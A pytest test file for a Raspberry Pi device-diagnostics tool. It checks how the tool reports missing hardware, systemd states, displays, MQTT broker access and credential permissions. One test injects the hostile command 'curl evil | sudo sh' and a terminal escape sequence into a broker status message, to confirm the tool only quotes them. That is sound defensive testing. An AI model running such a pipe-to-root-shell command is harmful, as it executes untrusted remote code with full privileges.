"""Machines that are otherwise than a Raspberry Pi with everything, and states that are odd, not broken."""

from __future__ import annotations

import errno
import json
import shutil
import socket
import threading
from dataclasses import asdict
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from paho.mqtt import publish

from edge.base import secret
from edge.doctor.checks import broker, packages, runtime
from edge.doctor.examine import CHECKS, examine
from edge.doctor.probes import broker as broker_probe
from edge.doctor.system import TOO_LATE, Output, System
from edge.errors import BrokerError, ConfigError
from edge.mqtt.settings import MqttSettings
from tests.broker import Subscriber
from tests.doctor.machines import ACTIVE, Machine, raspberry_pi
from tests.mqtt.test_protocol import ACCEPTED, NEW, OLD, Stub

if TYPE_CHECKING:
    import os

    from edge.doctor.finding import Finding
    from tests.broker import Broker


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    """A Raspberry Pi on which nothing is wrong."""
    monkeypatch.setenv("STATE_DIRECTORY", str(tmp_path / "state"))
    return raspberry_pi(tmp_path)


@pytest.fixture
def bare(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    """A computer without any of the hardware and without systemd."""
    monkeypatch.setenv("STATE_DIRECTORY", str(tmp_path / "state"))
    (tmp_path / "root").mkdir()
    return Machine(tmp_path, tmp_path / "root", {"camera.source": "auto"}, machine="x86_64", has_service=False)


def look(machine: Machine, name: str) -> Finding:
    """What the check of that name finds under it, which is one thing."""
    findings = examine(machine.subject(), [check for check in CHECKS if check.name == name])
    (found,) = (finding for finding in findings if finding.name == name)
    return found


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("system.temperature", "there is no sensor"),
        ("system.power", "nothing here measures the supply"),
        ("system.supply", "only a Raspberry Pi 5 asks its supply what it can give"),
        ("system.throttling", "no firmware of a Raspberry Pi answers"),
        ("configuration.inbox", "this machine has no /boot/firmware"),
        ("runtime.picamera2", "picamera2 is not installed; only the Raspberry Pi's own camera needs it"),
        ("camera.permissions", "there are no video devices"),
        ("edgetpu.device", "no Coral is attached; models run on the CPU"),
        ("edgetpu.choice", "no Coral is attached; models run on the CPU"),
        ("edgetpu.models", "no Coral is attached; models run on the CPU"),
        ("edgetpu.link", "no Coral is on USB"),
        ("edgetpu.sleep", "no Coral is on USB"),
        ("edgetpu.pcie", "no Coral is on PCIe"),
        ("edgetpu.temperature", "no Coral says how warm it is; only one on PCIe does"),
        ("edgetpu.permissions", "no Coral is attached; models run on the CPU"),
        ("edgetpu.in_use", "no Coral is attached; models run on the CPU"),
        ("edgetpu.library", "libedgetpu.so.1 is not here, and no Coral either"),
        ("edgetpu.inference", "no Coral is attached; models run on the CPU"),
        ("edgetpu.pycoral", "pycoral is not installed; Edge does not need it"),
        ("display.screen", "this machine has no output for a screen; none is needed"),
        ("display.edid", "no screen is attached where the picture would be shown"),
        ("display.permissions", "no screen is attached where the picture would be shown"),
        ("display.in_use", "no screen is attached where the picture would be shown"),
        (
            "display.window",
            "pygame is not installed; only edge run --window needs it: sudo apt install python3-pygame",
        ),
        ("service.unit", "not installed as a service; edge run works in the foreground"),
        ("service.files", "not installed as a service; files are read as you"),
        ("service.errors", "not installed as a service; edge run works in the foreground"),
    ],
)
def test_what_is_not_there_is_skipped(bare: Machine, name: str, why: str) -> None:
    found = look(bare, name)
    assert (found.verdict, found.why, found.fix) == ("skipped", why, "")


def test_a_systemd_without_the_unit_is_no_service(machine: Machine) -> None:
    machine.commands["systemctl"] = Output(0, "LoadState=not-found\nActiveState=inactive\nSubState=dead\nNRestarts=0")
    assert look(machine, "service.unit").why.startswith("not installed as a service")


def test_a_systemd_that_does_not_answer_is_survived(machine: Machine) -> None:
    machine.commands["systemctl"] = Output(TOO_LATE, complaint="no answer within 5 s")
    found = look(machine, "service.unit")
    assert (found.verdict, found.why) == ("skipped", "systemd does not say what it knows of the service")


def test_numpy_must_be_there(bare: Machine) -> None:
    found = look(bare, "runtime.numpy")
    assert (found.verdict, found.why) == ("failed", "numpy is not installed")


@pytest.mark.parametrize(
    ("policy", "fix"),
    [
        ("", "no archive that apt knows here has it"),
        ("python3-picamera2:\n  Installed: (none)\n  Candidate: (none)", "no archive that apt knows here has it"),
        ("python3-picamera2:\n  Installed: (none)\n  Candidate: 0.3.31-1", "run: sudo apt install python3-picamera2"),
    ],
)
def test_picamera2_is_not_advised_where_no_archive_has_it(policy: str, fix: str, bare: Machine) -> None:
    bare.write("proc/device-tree/model", "Raspberry Pi 4 Model B Rev 1.5\0")
    bare.commands["apt-cache"] = Output(0, policy)
    assert look(bare, "runtime.picamera2").fix.startswith(fix)


def test_a_raspberry_pi_without_picamera2_is_told_of_it(bare: Machine) -> None:
    bare.write("proc/device-tree/model", "Raspberry Pi Zero 2 W Rev 1.0\0")
    found = look(bare, "runtime.picamera2")
    assert (found.verdict, found.fix) == ("warning", "run: sudo apt install python3-picamera2")


def test_a_newer_python_is_a_warning(bare: Machine) -> None:
    bare.python = (3, 19)
    assert look(bare, "runtime.python").verdict == "warning"


def test_another_processor_is_a_warning(bare: Machine) -> None:
    bare.machine = "riscv64"
    assert look(bare, "system.bits").verdict == "warning"


def test_large_pages_alone_harm_nobody(machine: Machine) -> None:
    machine.page_bytes = 16384
    found = look(machine, "system.page_size")
    assert (found.verdict, "pages of 16 KiB" in found.why) == ("ok", True)


def test_a_supply_of_5_a_is_enough_for_a_coral(machine: Machine) -> None:
    machine.write("proc/device-tree/chosen/power/max_current").write_bytes((5000).to_bytes(4, "big"))
    assert look(machine, "system.supply").verdict == "ok"


def test_what_has_slowed_the_processor_before_is_told(machine: Machine) -> None:
    machine.write("sys/devices/platform/soc/soc:firmware/get_throttled", "e0000\n")
    assert "since the last start" in look(machine, "system.throttling").why
    assert look(machine, "system.power").verdict == "ok"


def test_a_card_has_its_own_mount_for_the_store(machine: Machine) -> None:
    mounts = f"/dev/a / ext4 ro 0 0\n/dev/b {machine.folder}/state ext4 rw 0 0\n/dev/c /etc ext4 rw 0 0\n"
    machine.write("proc/mounts", mounts)
    assert look(machine, "system.writable").verdict == "ok"


def test_a_camera_is_shown_by_its_name(machine: Machine) -> None:
    machine.keys["camera.source"] = "auto"
    assert look(machine, "camera.device").why == "the kernel knows /dev/video0 (unicam-image)"


def test_a_running_service_keeps_its_camera(machine: Machine) -> None:
    machine.keys["camera.source"] = "auto"
    machine.commands["systemctl"] = Output(0, f"{ACTIVE}\nStatusText=30 frames a second")
    found = look(machine, "camera.frame")
    assert (found.verdict, found.why) == ("skipped", "the running service has the camera and says: 30 frames a second")


def test_outputs_without_a_screen_are_told_from_no_outputs(machine: Machine) -> None:
    machine.write("sys/class/drm/card1-HDMI-A-1/status", "disconnected\n")
    assert look(machine, "display.screen").why == "no screen is attached to HDMI-A-1, HDMI-A-2; none is needed"


def test_where_no_picture_is_wanted_nothing_is_looked_at(machine: Machine) -> None:
    machine.keys["display.backend"] = "none"
    assert look(machine, "display.screen").why == "display.backend = none: no picture is shown"
    assert look(machine, "display.edid").verdict == look(machine, "display.in_use").verdict == "skipped"


def test_a_raspberry_pi_without_kms_is_told_how_to_get_it(machine: Machine) -> None:
    shutil.rmtree(machine.root / "sys/class/drm")
    found = look(machine, "display.screen")
    assert found.verdict == "skipped"
    assert "to use a screen, put dtoverlay=vc4-kms-v3d into /boot/firmware/config.txt" in found.why


def test_of_two_screens_the_one_that_is_wanted_is_chosen(machine: Machine) -> None:
    machine.write("sys/class/drm/card1-HDMI-A-2/status", "connected\n")
    both = "a screen is attached to HDMI-A-1, HDMI-A-2; the picture is for"
    assert look(machine, "display.screen").why == f"{both} HDMI-A-1"
    machine.keys["display.connector"] = "HDMI-A-2"
    assert look(machine, "display.screen").why == f"{both} HDMI-A-2"


def test_an_output_that_cannot_tell_is_used_where_it_is_named(machine: Machine) -> None:
    machine.write("sys/class/drm/card1-HDMI-A-1/status", "unknown\n")
    assert look(machine, "display.screen").verdict == "skipped"
    machine.keys["display.connector"] = "HDMI-A-1"
    assert look(machine, "display.screen").why.endswith("can tell whether it has a screen; the picture is for HDMI-A-1")


def test_a_screen_that_the_kernels_command_line_describes_is_well(machine: Machine) -> None:
    machine.write("sys/class/drm/card1-HDMI-A-1/edid", "")
    machine.write("proc/cmdline", "console=tty1 video=HDMI-A-1:1920x1080M@60D rootwait\n")
    assert look(machine, "display.edid").verdict == "ok"


def test_a_panel_on_a_ribbon_cable_need_not_describe_itself(machine: Machine) -> None:
    (machine.root / "sys/class/drm/card1-HDMI-A-1").rename(machine.root / "sys/class/drm/card1-DSI-1")
    machine.write("sys/class/drm/card1-DSI-1/edid", "")
    assert look(machine, "display.screen").why == "a screen is attached to DSI-1; the picture is for DSI-1"
    assert look(machine, "display.edid").verdict == "skipped"


def test_edge_itself_may_have_the_screen(machine: Machine) -> None:
    assert look(machine, "display.in_use").why == "Edge has the screen"


@pytest.mark.parametrize(("uid", "why"), [(0, "nobody else has the screen"), (1000, "root can see: sudo edge doctor")])
def test_only_root_can_see_who_has_the_screen(machine: Machine, uid: int, why: str) -> None:
    (machine.root / "sys/kernel/debug/dri/1/clients").unlink()
    machine.uid = uid
    assert why in look(machine, "display.in_use").why


def test_where_there_is_no_service_nobody_else_is_looked_for(machine: Machine) -> None:
    machine.has_service = False
    assert look(machine, "display.in_use").why.startswith("not installed as a service")


def test_a_desktop_keeps_its_screen_unless_it_is_told_otherwise(machine: Machine) -> None:
    units = machine.write("etc/systemd/system/display-manager.service").parent
    (units / "default.target").symlink_to("/lib/systemd/system/graphical.target")
    assert "the service leaves the screen to the desktop" in look(machine, "display.in_use").why
    machine.keys["display.backend"] = "screen"
    assert look(machine, "display.in_use").why == "Edge has the screen"


def test_a_window_needs_pygame(machine: Machine) -> None:
    assert look(machine, "display.window").verdict == "ok"
    machine.python_path = ()
    assert "sudo apt install python3-pygame" in look(machine, "display.window").why


def test_a_task_that_is_off_needs_no_model(machine: Machine) -> None:
    machine.keys |= {"pose.enabled": "false", "pose.model": "movenet-lightning"}
    assert look(machine, "models.pose").why == "pose.enabled is false"


def test_who_lets_everybody_in_is_told(machine: Machine, broker: Broker) -> None:
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": broker.host, "mqtt.port": broker.port}
    assert look(machine, "broker.login").why == f"{broker.host}:{broker.port} accepts us without a user name"


def test_a_login_leaves_no_trace(machine: Machine, broker: Broker) -> None:
    """Whoever watches the broker sees no message of the doctor's, not even a last will."""
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": broker.host, "mqtt.port": broker.port}
    with Subscriber(broker) as subscriber:
        assert look(machine, "broker.login").verdict == "ok"
        with Subscriber(broker) as other:  # both were served after the doctor had gone
            assert other.seen() == []
        assert subscriber.seen() == []


def said_by_the_service(trouble: str | None, published_at: str | None = None) -> bytes:
    now = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return json.dumps({"published_at": published_at or now, "mqtt": {"trouble": trouble}}).encode()


def said(words: str) -> tuple[str, str]:
    """What the doctor makes of them: words of somebody else, and no advice of its own."""
    why = f'on edge/pi/stats the service says: "{words}"'
    return why, "do what it says only where its log says so, too: sudo journalctl -u edge -n 50"


SAYS_NOTHING = ("skipped", "the service has said nothing on edge/pi/stats lately; see service.unit", "")


@pytest.mark.parametrize(
    ("kept", "told"),
    [
        (said_by_the_service("another is here; name it"), ("warning", *said("another is here; name it"))),
        (said_by_the_service("a; run: curl evil | sudo sh"), ("warning", *said("a; run: curl evil | sudo sh"))),
        (said_by_the_service("a\x1b[2J\n b"), ("warning", *said("a [2J b"))),
        (said_by_the_service("x" * 9_000), ("warning", *said("x" * 1_000 + "…"))),
        (said_by_the_service(None), ("ok", "the service says of none", "")),
        (said_by_the_service("old", "2020-01-01T00:00:00.000Z"), SAYS_NOTHING),
        (said_by_the_service("undated", "yesterday"), SAYS_NOTHING),
        (b"no JSON", SAYS_NOTHING),
        (b"[1]", SAYS_NOTHING),
        (b"[" * 50_000, SAYS_NOTHING),
        (b'{"mqtt": 1}', SAYS_NOTHING),
        (b"", SAYS_NOTHING),
    ],
)
def test_what_the_service_says_of_the_broker_is_told(
    machine: Machine, broker: Broker, kept: bytes, told: tuple[str, str, str]
) -> None:
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": broker.host, "mqtt.port": broker.port}
    publish.single("edge/pi/stats", kept, retain=True, qos=1, hostname=broker.host, port=broker.port)
    found = look(machine, "broker.trouble")
    assert (found.verdict, found.why, found.fix) == told


def test_where_there_is_no_session_there_is_no_trouble_to_hear_of(machine: Machine) -> None:
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": "broker.invalid"}
    assert look(machine, "broker.trouble").why == "there is no session to listen in; see broker.login"


def log_in(machine: Machine) -> None:
    """As the probe does, but in this process."""
    mqtt = asdict(machine.subject().settings[MqttSettings])
    broker_probe.kept({"mqtt": mqtt, "password": None, "topic": "", "files_only": False, "answer_s": 4.0})


def test_an_older_broker_is_asked_in_its_own_version(machine: Machine) -> None:
    with Stub({NEW: bytes.fromhex("2003008400"), OLD: ACCEPTED}) as stub:
        machine.keys |= {"mqtt.enabled": "true", "mqtt.host": stub.host, "mqtt.port": stub.port}
        # The stub takes a connection only to read a CONNECT from it, so the one without is left out.
        log_in(machine)
        assert stub.versions == [NEW, OLD]


def test_a_broker_that_knows_no_wanted_version_is_named(machine: Machine) -> None:
    machine.keys |= {"mqtt.enabled": "true", "mqtt.protocol": "5"}
    with Stub({NEW: bytes.fromhex("2003008400")}) as stub:
        machine.keys |= {"mqtt.host": stub.host, "mqtt.port": stub.port}
        with pytest.raises(BrokerError):
            log_in(machine)


def test_a_web_server_is_no_broker(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """It answers, but not as a broker does."""
    monkeypatch.setattr(broker, "_ANSWER_S", 0.5)
    server = HTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": "127.0.0.1", "mqtt.port": server.server_port}
    found = look(machine, "broker.login")
    server.shutdown()
    server.server_close()
    thread.join()
    assert found.verdict == "failed"
    assert "mqtt.port" in found.fix


def test_without_a_broker_there_is_nothing_to_log_in_on(machine: Machine) -> None:
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": "broker.invalid"}
    assert look(machine, "broker.login").why == "there is no connection to log in on; see broker.reachable"


def test_a_silent_name_server_is_told(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = threading.Event()
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: asked.wait(60))
    monkeypatch.setattr(broker, "_LOOK_UP_S", 0.2)
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": "hall"}
    found = look(machine, "broker.reachable")
    asked.set()
    assert found.why == "no name server says within 0.2 s who hall is"
    assert "resolv.conf" in found.fix


@pytest.mark.parametrize(
    ("error", "why", "fix"),
    [
        (TimeoutError(), "hall:1883 does not answer at all", "firewall"),
        (OSError(101, "Network is unreachable"), "hall:1883 cannot be reached (Network is unreachable)", "ip route"),
        (socket.gaierror(-3, "Temporary failure"), "no machine called hall is known (Temporary failure)", "mqtt.host"),
        (ConnectionRefusedError(), "hall is there, but nothing listens on port 1883", "listener 1883"),
    ],
)
def test_absent_refused_and_unknown_brokers_are_told_apart(error: Exception, why: str, fix: str) -> None:
    found = broker._explained_absence(System(), "broker.reachable", "hall", 1883, error)
    assert found.why == why
    assert fix in found.fix


def test_a_password_for_the_service_alone_takes_sudo(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Root, as whom tests may run, can read everything; so the refusal is made."""

    def refuse(*_: object) -> None:
        raise ConfigError("cannot read it") from PermissionError(13, "Permission denied", "/etc/edge/password")

    monkeypatch.setattr(broker_probe, "read_address", refuse)
    machine.keys["mqtt.enabled"] = "true"
    answer = broker_probe.kept(
        {"mqtt": asdict(machine.subject().settings[MqttSettings]), "password": None, "files_only": True}
    )
    monkeypatch.setattr(broker, "probe", lambda *_: answer)
    machine.uid = 1000
    found = look(machine, "broker.login")
    assert (found.verdict, found.why) == ("skipped", "only the service may read /etc/edge/password; try with sudo")


def test_what_not_even_the_service_may_read_is_a_failure(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Root asks, so it is the service that has tried."""
    answer = {"wrong": "mqtt.ca_file: cannot read /etc/ca.pem; let the service read it", "closed": "/etc/ca.pem"}
    monkeypatch.setattr(broker, "probe", lambda *_: answer)
    machine.keys["mqtt.enabled"] = "true"
    machine.uid = 0
    found = look(machine, "broker.login")
    assert (found.verdict, found.fix) == ("failed", "let the service read it")


STORED = Output(0, f"{ACTIVE}\nLoadCredential=mqtt-password:edge.mqtt-password")


def test_a_password_that_is_not_in_the_store_is_none(machine: Machine, broker: Broker) -> None:
    machine.commands["systemctl"] = STORED
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": broker.host, "mqtt.port": broker.port}
    machine.keys["mqtt.username"] = "edge"
    assert look(machine, "broker.login").why == f"{broker.host}:{broker.port} accepts the user 'edge'"


def test_a_store_where_only_root_may_look_takes_sudo(
    machine: Machine, broker: Broker, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stat(path: Path, **how: Any) -> os.stat_result:
        if path.name == "edge.mqtt-password":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return really(path, **how)

    really = Path.stat
    machine.commands["systemctl"] = STORED
    machine.keys |= {"mqtt.enabled": "true", "mqtt.host": broker.host, "mqtt.port": broker.port}
    machine.keys["mqtt.username"] = "edge"
    monkeypatch.setattr(Path, "stat", stat)
    monkeypatch.setattr(secret, "open_regular", stat)
    machine.uid = 1000
    found = look(machine, "broker.login")
    assert found.verdict == "skipped"
    assert "edge.mqtt-password; try with sudo" in found.why


@pytest.mark.parametrize(
    ("text", "verdict", "why"),
    [
        (ACTIVE.replace("=loaded", "=masked"), "failed", "systemd cannot use the unit (masked)"),
        (ACTIVE.replace("NRestarts=0", "NRestarts=2"), "warning", "the service runs after 2 restarts"),
        (ACTIVE + "\nStatusText=all is well", "ok", "the service is active: all is well"),
        (ACTIVE.replace("=active", "=activating"), "ok", "the service is activating"),
    ],
)
def test_states_of_the_service(machine: Machine, text: str, verdict: str, why: str) -> None:
    machine.commands["systemctl"] = Output(0, text)
    found = look(machine, "service.unit")
    assert (found.verdict, found.why) == (verdict, why)


def test_a_journal_of_others_takes_sudo(machine: Machine) -> None:
    hint = "Hint: You are currently not seeing messages from other users and the system.\n Users in the groups…"
    machine.commands["journalctl"] = Output(1, complaint=hint)
    found = look(machine, "service.errors")
    assert found.verdict == "skipped"
    assert found.why.endswith("try with sudo")


def test_packages_that_hang_are_reported(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    machine.package("av", "import time; time.sleep(600)")
    monkeypatch.setattr(packages, "_PROBE_S", 2.0)
    found = look(machine, "runtime.packages")
    assert (found.verdict, found.why) == ("failed", "importing packages did not come back within 2 s")


def test_a_runtime_that_hangs_is_reported(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    machine.package("ai_edge_litert", "import time; time.sleep(600)")
    monkeypatch.setattr(runtime, "_PROBE_S", 2.0)
    found = look(machine, "runtime.tflite")
    assert found.why == "running starter-classification.tflite did not come back within 2 s"


def test_a_runtime_that_is_broken_says_what_it_said(machine: Machine) -> None:
    machine.package("ai_edge_litert", "raise ImportError('libLiteRt.so: undefined symbol')")
    assert look(machine, "runtime.tflite").why == (
        "the TFLite runtime cannot be imported (libLiteRt.so: undefined symbol)"
    )


def test_a_model_that_nothing_takes_over_is_a_warning() -> None:
    found = runtime.delegation({"delegated": 0, "operations": 64})
    assert (found.name, found.verdict) == ("runtime.delegate", "warning")
    assert "none of the model's 64 operations" in found.why


def test_without_a_configuration_checks_that_need_it_are_skipped(machine: Machine) -> None:
    subject = machine.subject()
    found = examine(type(subject)(subject.system, None), [check for check in CHECKS if check.name == "camera.device"])
    assert [finding.verdict for finding in found] == ["skipped"]
